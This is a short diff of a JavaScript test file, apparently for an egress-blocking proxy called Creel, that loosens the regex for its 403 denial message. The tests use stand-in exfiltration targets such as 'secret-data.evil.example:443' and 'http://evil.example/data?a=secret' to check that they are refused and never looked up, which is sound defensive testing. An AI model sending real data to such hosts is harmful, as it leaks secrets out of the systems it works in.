@@ -19,7 +19,7 @@ describe('a name', () => {
   it('that no rule allows is not looked up', async () => {
     const { status, text } = await world.client.connect('secret-data.evil.example:443')
     expect(status).toBe(403)
-    expect(text).toMatch(/^HTTP\/1\.1 403 Denied by Creel, ask with request_egress\r\n/)
+    expect(text).toMatch(/^HTTP\/1\.1 403 .*Creel.*request_egress.*\r\n/)
     expect(text).toMatch(/no rule allows secret-data\.evil\.example:443.*call the tool request_egress/)
     expect((await world.client.plain('http://evil.example/data?a=secret')).status).toBe(403)
     expect(world.gateway.lookedUp).toEqual([])
